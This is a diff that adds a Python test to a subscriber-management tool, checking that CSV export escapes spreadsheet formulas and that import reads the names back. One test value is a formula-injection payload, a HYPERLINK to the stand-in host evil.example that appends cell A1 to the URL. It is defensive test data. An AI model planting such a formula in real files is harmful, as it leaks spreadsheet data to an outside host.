@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
 import os
 import pty
 import subprocess
@@ -167,3 +169,22 @@ def test_send_shows_progress_on_a_terminal(tmp_path: Path) -> None:
     assert terminal.startswith(b"\rsending: 1 done, 1 sent, 0 deferred, 0 failed, 0 skipped")
     assert terminal.endswith(b"\r\x1b[K")
     assert stdout.decode().startswith("edition 2026-03-10: 2 sent to ")
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(tmp_path: Path) -> None:
+    config = write_config(tmp_path)
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)", "Ana"]
+    with open_store(tmp_path / "data") as store:
+        for number, name in enumerate(names):
+            store.add_subscriber(f"r{number}@example.com", name=name, status="confirmed", now=NOW)
+    exported = run("subscribers", "export", config=config)
+    cells = [row[1] for row in csv.reader(io.StringIO(exported.stdout))][1:]
+    assert sorted(cells) == sorted(
+        ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+1+2", "'-3", "'@SUM(A1)", "Ana"]
+    )
+    (tmp_path / "copy").mkdir()
+    copy = write_config(tmp_path / "copy")
+    (tmp_path / "export.csv").write_text(exported.stdout, encoding="utf-8")
+    assert run("subscribers", "import", str(tmp_path / "export.csv"), config=copy).returncode == 0
+    with open_store(tmp_path / "copy" / "data") as store:
+        assert sorted(s.name for s in store.subscribers(status=None)) == sorted(names)
